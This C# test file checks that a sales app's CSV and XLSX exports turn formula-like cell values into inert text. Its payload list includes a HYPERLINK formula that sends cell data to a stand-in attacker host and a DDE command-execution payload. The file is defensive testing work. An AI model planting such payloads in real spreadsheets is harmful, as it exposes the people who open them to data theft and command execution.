using System.Net;
using System.Text;
using System.Text.Json;

namespace SalesFlow.Web.Tests.Reliability;

/// <summary>
/// R9: values that a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return, also after
/// blanks) leave SalesFlow as text in every exported file — CSV cells start with an apostrophe, XLSX cells are strings
/// and never formulas — while plain negative numbers and ordinary text are exported untouched.
/// </summary>
public sealed class FormulaInjectionTests(SalesFlowApp app) : IClassFixture<SalesFlowApp>
{
    private const string LeadHeader = "姓名/name,公司/company,手机/mobile,邮箱/email,来源/source,区域/region\n";

    /// <summary>Each payload and whether a spreadsheet could read it as a formula.</summary>
    public static readonly (string Value, bool Dangerous)[] Payloads =
    [
        ("=1+1", true),
        ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", true),
        ("+86 1+1", true),
        ("-1+1", true),
        ("-2*3", true),
        ("@SUM(1,1)", true),
        ("\t=1+1", true),
        ("\r=1+1", true),
        ("  =1+1", true),
        ("   @cmd", true),
        (" \t+1", true),
        ("\u3000=1+1", true),
        ("\n-1+1", true),
        ("=cmd|' /C calc'!A0", true),
        ("-1234.56", false),
        ("-7", false),
        ("普通文本", false),
        ("a=b+c", false),
        ("工具@库存", false),
    ];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task An_import_error_file_gives_back_every_payload_as_text_in_CSV_and_XLSX()
    {
        var rep = await app.ClientAsync("rep.huadong.3");
        // Every row lacks its company, so every row comes back in the error file with its cells as they were sent.
        var csv = new StringBuilder(LeadHeader);
        foreach (var (value, _) in Payloads)
        {
            csv.Append(Quote(value)).Append(",,,,Website,华东\n");
        }

        using var upload = await UploadAsync(rep, csv.ToString());
        var job = await ApiCalls.ImportJobAsync(rep, (await upload.JsonAsync(HttpStatusCode.Accepted)).Id());
        Assert.Equal(Payloads.Length, job.Number("rowsInvalid"));

        var csvRows = SpreadsheetFile.ReadCsv(await TextAsync(rep, $"/api/v1/imports/{job.Id()}/errors?format=csv"));
        var (xlsxRows, notText) = SpreadsheetFile.ReadXlsx(await BytesAsync(rep, $"/api/v1/imports/{job.Id()}/errors?format=xlsx"));

        var sent = Payloads.Select(p => (p.Value, p.Dangerous)).ToList();
        AssertNeutralized(sent, csvRows.Skip(1).Select(r => r[0]).ToList());
        AssertNeutralized(AsXmlReadsIt(sent), xlsxRows.Skip(1).Select(r => r[0]).ToList());
        Assert.Empty(notText);
    }

    [Fact]
    public async Task A_lead_export_gives_back_stored_payloads_as_text_in_CSV_and_XLSX()
    {
        var rep = await app.ClientAsync("rep.huadong.4");
        var stored = new List<(string Value, bool Dangerous)>();
        for (var i = 0; i < Payloads.Length; i++)
        {
            var (value, dangerous) = Payloads[i];
            using var response = await rep.Post("/api/v1/leads", new { name = value, company = $"公式注入导出{i:D2}有限公司", mobile = $"136555{i:D5}", source = "Website", region = "华东" });
            if (response.StatusCode == HttpStatusCode.Created)
            {
                var lead = await response.JsonAsync(HttpStatusCode.Created);
                // The name is kept as the API stored it (it may trim blanks); what matters is how that leaves again.
                var name = lead.GetProperty("name").GetString()!;
                stored.Add((name, dangerous && !IsPlainNegative(name)));
            }
            else
            {
                // A name the API refuses (a control character) must be refused with a reason, never half-stored.
                await response.ProblemAsync(HttpStatusCode.BadRequest);
            }
        }

        Assert.True(stored.Count >= 14, $"Only {stored.Count} payload names were accepted.");
        var csvRows = SpreadsheetFile.ReadCsv(await TextAsync(rep, "/api/v1/exports/leads?q=公式注入导出&format=csv"));
        var (xlsxRows, notText) = SpreadsheetFile.ReadXlsx(await BytesAsync(rep, "/api/v1/exports/leads?q=公式注入导出&format=xlsx"));

        // The companies are numbered in the order the payloads were sent.
        AssertNeutralized(stored, csvRows.Skip(1).OrderBy(r => r[1], StringComparer.Ordinal).Select(r => r[0]).ToList());
        AssertNeutralized(AsXmlReadsIt(stored), xlsxRows.Skip(1).OrderBy(r => r[1], StringComparer.Ordinal).Select(r => r[0]).ToList());
        Assert.Empty(notText);
    }

    private static void AssertNeutralized(List<(string Value, bool Dangerous)> sent, List<string> exported)
    {
        Assert.Equal(sent.Count, exported.Count);
        for (var i = 0; i < sent.Count; i++)
        {
            var (value, dangerous) = sent[i];
            var expected = dangerous ? "'" + value : value;
            Assert.True(expected == exported[i], $"Row {i + 1}: sent {JsonSerializer.Serialize(value)}, exported {JsonSerializer.Serialize(exported[i])}, expected {JsonSerializer.Serialize(expected)}.");
        }
    }

    // An XML reader (Excel's too) reads a carriage return in a cell's text as a line feed.
    private static List<(string Value, bool Dangerous)> AsXmlReadsIt(List<(string Value, bool Dangerous)> sent) =>
        sent.Select(p => (p.Value.Replace("\r", "\n", StringComparison.Ordinal), p.Dangerous)).ToList();

    private static bool IsPlainNegative(string value) =>
        value.Length > 1 && value[0] == '-' && decimal.TryParse(value, System.Globalization.NumberStyles.AllowLeadingSign | System.Globalization.NumberStyles.AllowDecimalPoint, System.Globalization.CultureInfo.InvariantCulture, out _);

    private static string Quote(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static async Task<string> TextAsync(HttpClient client, string url)
    {
        using var response = await client.Get(url);
        var text = await response.Content.ReadAsStringAsync(Ct);
        Assert.True(response.IsSuccessStatusCode, text);
        return text;
    }

    private static async Task<byte[]> BytesAsync(HttpClient client, string url)
    {
        using var response = await client.Get(url);
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync(Ct));
        return await response.Content.ReadAsByteArrayAsync(Ct);
    }

    private static async Task<HttpResponseMessage> UploadAsync(HttpClient client, string csv)
    {
        return await client.UploadAsync("leads", Encoding.UTF8.GetBytes(csv), "formulas.csv");
    }

}
